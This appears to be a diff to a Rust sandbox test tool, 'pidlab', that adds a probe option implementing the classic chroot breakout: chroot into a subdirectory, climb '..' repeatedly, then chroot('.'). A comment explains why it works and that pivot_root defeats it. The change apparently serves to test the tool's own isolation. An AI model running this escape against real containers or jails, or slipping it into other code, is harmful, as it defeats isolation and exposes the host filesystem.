@@ -75,6 +75,15 @@ pub fn run(args: ProbeArgs) -> Result<i32> {
         sys::set_disposition(sig, SigHandler::SigDfl).with_context(|| format!("reset {sig}"))?;
     }
     say(whereabouts());
+    if let Some(path) = &args.chroot_escape {
+        let landed = chroot_escape()?;
+        say(format!(
+            "{landed}; {} {}",
+            path.display(),
+            if path.exists() { "exists" } else { "does not exist" }
+        ));
+        return Ok(0);
+    }
 
     let (rx, tx) = pipe2(OFlag::O_CLOEXEC | OFlag::O_NONBLOCK).context("self-pipe")?;
     PIPE.store(tx.as_raw_fd(), Ordering::Relaxed);
@@ -207,6 +216,26 @@ fn drain(rx: &OwnedFd) -> Vec<(i32, i32)> {
         out.push((sig, sender));
     }
     out
+}
+
+/// chroot(2) changes how `/` resolves but not the working directory, and
+/// `..` at a process's root stays put only at *that* root. So: chroot into
+/// a fresh subdirectory without entering it; the cwd is now outside our
+/// root, `..` climbs freely to the top of the mount namespace, and a
+/// chroot(".") there makes it our root. Needs CAP_SYS_CHROOT. Where the top
+/// is the host's root (pidlab's default chroot), we are out; after
+/// pivot_root the top is the sandbox's own root, and there is no way out.
+fn chroot_escape() -> Result<String> {
+    let jail = Path::new("/tmp/pidlab-jail");
+    std::fs::create_dir_all(jail).context("mkdir /tmp/pidlab-jail (needs a writable /tmp)")?;
+    nix::unistd::chdir("/").context("chdir /")?;
+    nix::unistd::chroot(jail).context("chroot into the jail (needs CAP_SYS_CHROOT)")?;
+    for _ in 0..64 {
+        nix::unistd::chdir("..").context("chdir ..")?;
+    }
+    nix::unistd::chroot(".").context("chroot .")?;
+    nix::unistd::chdir("/").context("chdir /")?;
+    Ok("climbed out of the jail to the top of the mount namespace".into())
 }
 
 /// Write the state file the way a database saves before exiting: to a
